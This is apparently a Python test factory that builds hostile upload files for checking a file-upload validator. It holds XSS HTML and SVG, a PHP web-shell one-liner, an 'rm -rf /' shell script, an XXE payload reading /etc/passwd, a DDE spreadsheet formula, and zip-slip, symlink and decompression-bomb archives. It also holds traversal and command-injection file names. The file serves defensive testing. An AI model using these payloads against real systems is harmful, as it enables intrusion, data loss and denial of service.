"""Hostile files, made here: what the name promises, what the bytes are, and what lies between."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.factories.pictures import picture

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body onload=alert(1)>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SHELL = b"#!/bin/sh\nrm -rf /\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
SHORTCUT = b"[InternetShortcut]\r\nURL=file://attacker/share\r\n"
# The test file of the scanners' makers, in two halves so that this source is not one.
TEST_VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
TAKEN = ("png", "jpg", "jpeg", "webp", "pdf", "txt", "csv")
OTHERS = (
    "html", "htm", "xhtml", "shtml", "svg", "svgz", "xml", "xsl", "xht", "mht", "mhtml", "js", "mjs", "vbs", "wsf", "hta",
    "php", "phtml", "php5", "jsp", "jspx", "asp", "aspx", "cgi", "pl", "py", "rb", "sh", "bash", "ps1", "bat", "cmd", "com",
    "exe", "dll", "scr", "msi", "jar", "class", "apk", "elf", "so", "dmg", "iso", "lnk", "url", "scf", "inf", "reg", "docm",
    "xlsm", "pptm", "xls", "doc", "docx", "xlsx", "zip", "rar", "7z", "tar", "gz", "bz2", "gif", "bmp", "tiff", "ico", "heic",
    "psd", "eps", "ps", "swf", "json", "yaml", "toml", "ini", "conf", "htaccess", "config", "md", "rtf", "ics", "vcf", "eml",
)  # fmt: skip
BODIES = {
    "html": HTML, "svg": SVG, "php": PHP, "exe": EXE, "elf": ELF, "shell": SHELL, "ole": OLE, "xml": XML, "url": SHORTCUT, "zip": b"",
    "nul": b"a\x00b", "gif": b"GIF89a" + b"\x00" * 20, "bmp": b"BM" + b"\x00" * 40,
}  # fmt: skip


def files() -> Iterator[tuple[str, str, bytes]]:
    """What is tried, name, bytes."""
    yield from ((f"ending {e}", f"a.{e}", BODIES.get(e) or HTML) for e in OTHERS)
    for kind, body in BODIES.items():
        yield from ((f"{kind} as {e}", f"a.{e}", body or packed()) for e in TAKEN if e not in ("txt", "csv"))
    yield from double_endings()
    yield from polyglots()
    yield from bombs()
    yield from names()
    yield from texts()


def double_endings() -> Iterator[tuple[str, str, bytes]]:
    for e in ("html", "php", "exe", "svg", "js", "jsp", "asp", "sh", "htaccess"):
        yield f"png.{e}", f"a.png.{e}", picture()
        yield f"{e}.png with its bytes", f"a.{e}.png", HTML
        yield f"{e}.png with a picture", f"a.{e}.png", picture()
    for e in (
        "png ",
        "png.",
        "PNG::$DATA",
        "png%00.html",
        "png\x00.html",
        "png;.php",
        "png/.php",
        "p\u200bng",
        "png\u202egnp.exe",
    ):
        yield f"odd ending {e!r}", f"a.{e}", HTML


def polyglots() -> Iterator[tuple[str, str, bytes]]:
    for name, tail in (
        ("html", HTML),
        ("php", PHP),
        ("zip", packed()),
        ("pdf", PDF),
        ("exe", EXE),
        ("js", b"/*" + SCRIPT + b"*/"),
    ):
        yield f"png and {name}", "a.png", picture() + tail
        yield f"jpeg and {name}", "a.jpg", picture("JPEG") + tail
        yield f"webp and {name}", "a.webp", picture("WEBP") + tail
        yield f"{name} and pdf", "a.pdf", tail + PDF
        yield f"pdf and {name}", "a.pdf", PDF + tail
    yield "script in the notes of a png", "a.png", picture(words=SCRIPT.decode())
    yield "php in the notes of a png", "a.png", picture(words=PHP.decode())
    yield "gif and script", "a.gif", b"GIF89a/*" + b"\x00" * 8 + b"*/=1;alert(1)"
    yield "png head alone", "a.png", b"\x89PNG\r\n\x1a\n" + HTML
    yield "jpeg head alone", "a.jpg", b"\xff\xd8\xff\xe0" + HTML
    yield "webp head alone", "a.webp", b"RIFF\x00\x00\x00\x00WEBP" + HTML
    yield "pdf with a script", "a.pdf", PDF
    yield "pdf head far in", "a.pdf", b" " * 2000 + PDF


def bombs() -> Iterator[tuple[str, str, bytes]]:
    for side in (9_000, 20_000, 65_000, 2**31 - 1):
        yield f"png of {side} by {side}", "a.png", flat_png(side, side)
    yield "png of one line", "a.png", flat_png(2**31 - 1, 1)
    yield "png without a side", "a.png", flat_png(0, 0)
    yield "png cut short", "a.png", picture(size=(300, 300))[:200]
    yield "png with text that unfolds", "a.png", with_text(b"\x00" * 40_000_000)
    yield "jpeg that says it is large", "a.jpg", large_jpeg()
    yield "zip bomb as picture", "a.png", packed(b"\x00" * 20_000_000)
    yield "zip in a zip", "a.zip", packed(packed(packed()))
    yield "zip that leaves its folder", "a.zip", packed(HTML, "../../../../tmp/escaped")
    yield "zip with a link", "a.zip", linked()
    yield "nothing", "a.png", b""
    yield "nothing as text", "a.txt", b""
    yield "too large", "a.txt", b"x" * (25 * 1024 * 1024 + 1)


def names() -> Iterator[tuple[str, str, bytes]]:
    for name in (
        "../../../etc/passwd.png", "..\\..\\windows\\win.png", "/etc/cron.d/x.png", "C:\\x.png",
        "\\\\host\\share\\x.png", "....//....//x.png",
        "a\x00.png", "\x00.png", "a\r\nSet-Cookie: x=1.png", "a\nb.png", 'a".png', "a';drop table.png", "<img src=x onerror=alert(1)>.png",
        "{{7*7}}.png", "${7*7}.png", "%2e%2e%2fx.png",
        "%00.png", "a\u202egnp.exe.png", "\u2066evil\u2069.png", "\u200f.png", "\ufeff.png",
        "a" * 5000 + ".png", ".png", "..png", "-rf.png", "con.png", "nul.png", "aux.png", "=1+1.png", "@x.png", "|calc.png", "`id`.png",
        "$(id).png", "a;b.png", "a&b.png", "a?b.png", "a*b.png", "a:b.png",
        "~root.png", " .png", "公差.png", "e\u0301.png", "\ud83d\ude00.png", "a\u2028b.png",
        "a\x1b[31m.png", "a\x7f.png", "file://x.png", "http://x/x.png", "data:x.png",
    ):  # fmt: skip
        yield f"name {name[:40]!r}", name, picture()


def texts() -> Iterator[tuple[str, str, bytes]]:
    for kind, body in (
        ("html", HTML),
        ("svg", SVG),
        ("php", PHP),
        ("shell", SHELL),
        ("xml", XML),
        ("url", SHORTCUT),
        ("formula", b"=cmd|' /C calc'!A0"),
    ):
        for e in ("txt", "csv"):
            yield f"{kind} as {e}", f"a.{e}", body
    for e in ("txt", "csv"):
        yield f"test virus as {e}", f"a.{e}", TEST_VIRUS
        yield f"program as {e}", f"a.{e}", EXE
        yield f"utf-16 html as {e}", f"a.{e}", HTML.decode().encode("utf-16")
        yield f"utf-7 script as {e}", f"a.{e}", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"


def packed(content: bytes = HTML, name: str = "a.html") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return held.getvalue()


def linked() -> bytes:
    held, link = io.BytesIO(), zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(held, "w") as made:
        made.writestr(link, "/etc/passwd")
    return held.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def flat_png(width: int, height: int) -> bytes:
    """A few bytes that say they are a picture of this size."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\x00" * 100_000)) + chunk(b"IEND", b"")


def with_text(text: bytes) -> bytes:
    whole = picture()
    return whole[:33] + chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(text, 9)) + whole[33:]


def large_jpeg() -> bytes:
    whole = bytearray(picture("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(whole)
